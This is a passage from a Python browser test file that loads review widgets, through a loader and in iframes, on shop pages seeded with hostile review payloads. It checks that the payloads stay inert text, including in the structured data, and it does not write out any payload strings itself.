        return iframe(src, widget, f"{widget} of {slug}", height)

    parts = []
    for slug, skus in hostile.skus.items():
        parts.append(framed(slug, "stars", FRAME_HEIGHTS["stars"] * len(skus), sku=skus))
        parts.append(framed(slug, "reviews", 236 + 124 * 20, sku="TEA-1", limit=20))
        parts.append(framed(slug, "reviews", 236 + 124 * 20, limit=20))
        parts.append(framed(slug, "carousel", FRAME_HEIGHTS["carousel"], limit=20))
        parts += [framed(slug, "reviews", 236 + 124, sku=sku, limit=1) for sku in skus[:2]]
    return shop_page("Hostile reviews in frames", "\n".join(parts), head=loader_head(reputable))


def inert(seen: Visit, urls: list[str]) -> dict[str, Any]:
    """Everything `seen` found wrong once it had loaded `urls`, and the text of the last (its
    frames included). A payload that ran, fetched, navigated or became an element is a problem."""
    elements = seen.elements()
    unexpected = sorted({tag for frame in elements for tag in frame["tags"]} - CONTENT_TAGS)
    problems = seen.problems() + [f"elements no widget writes: {unexpected}"] * bool(unexpected)
    if seen.navigations != urls:
        problems.append(f"navigated: {seen.navigations}")
    return {"problems": problems, "text": "\n".join(frame["text"] for frame in elements)}


def test_markup_in_reviews_stays_text_in_every_widget_frame_and_the_profile_in_the_browser(
    hostile: Hostile, reputable: Reputable, shop_site: ShopSite, visit: OpenVisit
) -> None:
    shop_site.pages["/loader"] = hostile_loader_page(reputable, hostile)
    shop_site.pages["/frames"] = hostile_frames_page(reputable, shop_site, hostile)
    shown = {}

    for page in ("/loader", "/frames"):
        seen = visit()
        open_shop_page(seen, shop_site, page)
        found = inert(seen, [shop_site.origin + page])
        assert_none(found["problems"])
        shown[page] = found["text"]
        if page == "/loader":
            blocks = seen.page.evaluate(
                """() => [...document.querySelectorAll('script[type="application/ld+json"]')]
                  .map((s) => JSON.parse(s.textContent))"""
            )

    seen, urls = visit(), []
    for slug, payloads in hostile.payloads.items():
        paths = [f"/s/{slug}/?lang=en", f"/s/{slug}/?lang=en&sku={quote(hostile.skus[slug][0], safe='')}"]
        paths += [f"/s/{slug}/?lang=en&q={quote(payload[:100], safe='')}" for payload in payloads[:4]]
        for path in paths:
            urls.append(reputable.origin + path)
            seen.goto(urls[-1])
            found = inert(seen, urls)
            assert_none(found["problems"])
            shown[path] = found["text"]

    # Each payload was shown, as the text it is: title, reviewer, text; in the structured
    # data too, whole.
    everything = [payload for payloads in hostile.payloads.values() for payload in payloads]
    for where in ["/loader", "/frames", *(f"/s/{slug}/?lang=en" for slug in hostile.payloads)]:
        missing = [p for p in everything if p[:120] not in shown[where]]
        if where.startswith("/s/"):
            missing = [p for p in missing if p in hostile.payloads[where.split("/")[2]]]
        assert missing == [], where
    names = {block["name"] for block in blocks}
    assert names == {*everything, "Green tea"}
    reviewed_titles = {review.get("name") for block in blocks for review in block["review"]}
    assert {payload[:120] for payload in everything} <= reviewed_titles
